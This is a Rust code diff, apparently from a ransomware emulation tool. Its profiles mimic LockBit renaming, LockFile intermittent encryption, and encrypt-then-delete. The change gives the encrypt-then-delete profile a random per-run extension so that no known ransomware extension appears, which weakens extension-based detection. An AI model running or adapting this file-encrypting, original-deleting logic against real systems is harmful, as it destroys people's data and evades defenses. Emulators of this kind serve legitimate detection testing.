@@ -36,7 +36,8 @@ pub enum Profile {
     RenameLockbit,
     /// Encrypt in place, rename to a random per-run extension, note per folder.
     RenameRandom,
-    /// Write `name.locked` with the ciphertext, then delete the original.
+    /// Write `name.<random per-run extension>` with the ciphertext, then
+    /// delete the original (no known ransomware extension to go by).
     NewDelete,
     /// LockFile: every other 16 bytes encrypted.
     LockFile,
@@ -217,7 +218,7 @@ pub fn run(
         fast::run(target, &files, opts, log, &mut report)?;
     } else {
         let cipher = Cipher::new(opts.seed);
-        let extension = if profile == Profile::RenameRandom {
+        let extension = if matches!(profile, Profile::RenameRandom | Profile::NewDelete) {
             random_extension(&mut rng)
         } else {
             ".lockbit".to_string()
@@ -367,7 +368,7 @@ impl Step<'_> {
             }
             Profile::NewDelete => {
                 let data = self.read(path)?;
-                let to = format!("{path}.locked");
+                let to = format!("{path}{extension}");
                 let encrypted = self.cipher.encrypt(key, &data);
                 self.logged("write", &to, true, || self.session.write(&to, &encrypted))?;
                 self.logged("unlink", path, true, || self.session.unlink(path))
